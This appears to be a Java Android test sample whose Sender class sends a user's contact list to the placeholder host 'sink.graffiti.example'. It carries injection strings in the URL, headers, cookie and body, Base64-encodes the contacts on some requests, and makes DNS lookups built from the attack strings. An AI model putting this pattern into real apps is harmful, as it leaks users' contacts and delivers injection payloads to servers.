package org.graffiti.example;

import android.util.Log;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import org.json.JSONArray;
import org.json.JSONException;
import org.json.JSONObject;

/** Sends contacts, with attacks in the address, the names of headers, their values and the body. */
final class Sender {
    private static final String HOST = "sink.graffiti.example";
    private static final int PORT = 80;

    private Sender() {}

    static void send(JSONArray contacts) {
        int number = 0;
        for (String attack : Attacks.ALL) {
            try {
                number++;
                post(number, attack, contacts);
                look(attack);
            } catch (IOException | JSONException failed) {
                Log.w(Attacks.SCRIPT, Attacks.together(), failed);
            }
        }
    }

    /** By hand: a library would refuse such addresses and headers. */
    private static void post(int number, String attack, JSONArray contacts)
            throws IOException, JSONException {
        byte[] body = body(number, attack, contacts).toString().getBytes(StandardCharsets.UTF_8);
        String inLine = attack.replaceAll("[\\x00-\\x20]", "");
        String head =
                "POST /" + inLine + "?q=" + inLine + " HTTP/1.1\r\nHost: " + HOST
                        + "\r\nUser-Agent: " + inLine + "\r\nX-" + number + "-Attack: " + inLine
                        + "\r\nCookie: a=" + inLine
                        + "\r\nContent-Type: application/json\r\nContent-Length: " + body.length
                        + "\r\nConnection: close\r\n\r\n";
        try (Socket socket = new Socket(HOST, PORT)) {
            OutputStream out = socket.getOutputStream();
            out.write(head.getBytes(StandardCharsets.UTF_8));
            out.write(body);
            out.flush();
            while (socket.getInputStream().read() >= 0) {
                continue;
            }
        }
    }

    private static JSONObject body(int number, String attack, JSONArray contacts)
            throws JSONException {
        JSONObject body = new JSONObject().put(attack, contacts);
        if (number % 2 == 0) {
            String packed =
                    Base64.getEncoder()
                            .encodeToString(contacts.toString().getBytes(StandardCharsets.UTF_8));
            body.put(attack, packed);
        }
        return body;
    }

    /** The name goes to the resolver as it is. */
    private static void look(String attack) {
        try {
            Log.i(attack, String.valueOf(InetAddress.getByName(attack + "." + HOST)));
        } catch (IOException | RuntimeException refused) {
            Log.i(attack, String.valueOf(refused));
        }
    }
}
